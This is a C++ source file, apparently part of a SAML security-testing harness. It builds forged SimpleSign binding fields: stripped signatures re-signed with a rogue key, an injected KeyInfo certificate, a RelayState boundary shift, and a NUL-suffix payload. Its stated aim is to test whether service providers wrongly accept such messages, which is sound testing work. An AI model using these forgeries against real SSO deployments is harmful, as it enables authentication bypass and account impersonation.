// SPDX-License-Identifier: Apache-2.0
// binding.simple_sign_fields — the HTTP POST "SimpleSign" binding (OASIS, 2008) carries the
// signature in form fields: SigAlg and Signature over "SAMLResponse=<xml>&RelayState=…&SigAlg=…"
// built from the decoded values, optionally a KeyInfo field naming the key. OpenSAML-C++
// CVE-2025-31335 forged signed messages through these fields (BIND-SIMPLESIGN). An SP without
// SimpleSign must never let them authenticate a message. Param form:
//   fields_on_unsigned (default): every XML Signature stripped, SigAlg/Signature computed with the
//     attacker's idp-rogue key;  key_info_field: the same plus a KeyInfo field with its certificate;
//   boundary_shift: SimpleSign fields by the IdP's own key, then the last 8 bytes of the XML moved
//     to the front of RelayState;  nul_suffix: a NUL and forged bytes after the decoded XML.
#include "mutators/binding/binding.hpp"
#include "mutators/mutators.hpp"

#include "samlt/core/query_signature.hpp"
#include "samlt/core/saml_names.hpp"

namespace samlt::idp::mutators {
namespace {

namespace n = core::names;

// The SimpleSign fields over the form as it stands: the signed string holds the values decoded,
// the message as XML, never URL-encoded.
core::Result<void> add_simple_sign(Target& target, const core::Credential& signer) {
  const auto algorithm = core::SignatureAlgorithm::rsa_sha256;
  auto xml = core::base64_decode(form_field(target, "SAMLResponse")->second);
  if (!xml) {
    return core::fail(core::Reason::mutator_not_applicable, "the SAMLResponse is not base64");
  }
  std::string octets = "SAMLResponse=" + *xml;
  if (const core::FormField* relay_state = form_field(target, "RelayState")) {
    octets += "&RelayState=" + relay_state->second;
  }
  octets += "&SigAlg=" + std::string(core::signature_method_uri(algorithm));
  auto signature = core::sign_query_octets(signer.key, algorithm, octets);
  if (!signature) {
    return core::fail(signature.error());
  }
  target.form->emplace_back("SigAlg", std::string(core::signature_method_uri(algorithm)));
  target.form->emplace_back("Signature", core::base64_encode(*signature));
  return {};
}

std::string key_info_xml(const core::Certificate& certificate) {
  return "<ds:KeyInfo xmlns:ds=\"" + std::string(n::ns_dsig) + "\"><ds:X509Data><ds:X509Certificate>" +
         core::base64_encode(certificate.der()) + "</ds:X509Certificate></ds:X509Data></ds:KeyInfo>";
}

}  // namespace

core::Result<void> binding_simple_sign_fields(Target& target) {
  auto form = choice_param(target, "form", {"fields_on_unsigned", "key_info_field", "boundary_shift", "nul_suffix"},
                           "fields_on_unsigned");
  if (!form) {
    return core::fail(form.error());
  }
  core::FormField* message = form_field(target, "SAMLResponse");
  if (message == nullptr) {
    return core::fail(core::Reason::mutator_not_applicable, "no SAMLResponse field");
  }
  if (*form == "nul_suffix") {
    auto xml = core::base64_decode(message->second);
    if (!xml) {
      return core::fail(core::Reason::mutator_not_applicable, "the SAMLResponse does not decode");
    }
    message->second = core::base64_encode(*xml + std::string(1, '\0') + "<samlp:Response ID=\"_forged\"/>");
    return {};
  }
  if (*form == "boundary_shift") {
    if (auto signed_fields = add_simple_sign(target, target.spec.signer); !signed_fields) {
      return core::fail(signed_fields.error());
    }
    message = form_field(target, "SAMLResponse");  // the form grew
    std::string xml = core::base64_decode(message->second).value();  // decoded once already
    std::string moved = xml.substr(xml.size() - 8);
    message->second = core::base64_encode(xml.substr(0, xml.size() - 8));
    if (core::FormField* relay_state = form_field(target, "RelayState")) {
      relay_state->second = moved + relay_state->second;
    } else {
      target.form->emplace_back("RelayState", moved);
    }
    return {};
  }
  const core::Credential* rogue = target.credential("idp-rogue");
  if (rogue == nullptr) {
    return core::fail(core::Reason::mutator_not_applicable, "no idp-rogue credential is configured");
  }
  auto stripped = without_signatures(message->second);
  if (!stripped) {
    return core::fail(stripped.error());
  }
  message->second = std::move(*stripped);
  if (auto signed_fields = add_simple_sign(target, *rogue); !signed_fields) {
    return signed_fields;
  }
  if (*form == "key_info_field") {
    target.form->emplace_back("KeyInfo", core::base64_encode(key_info_xml(rogue->certificate)));
  }
  return {};
}

}  // namespace samlt::idp::mutators
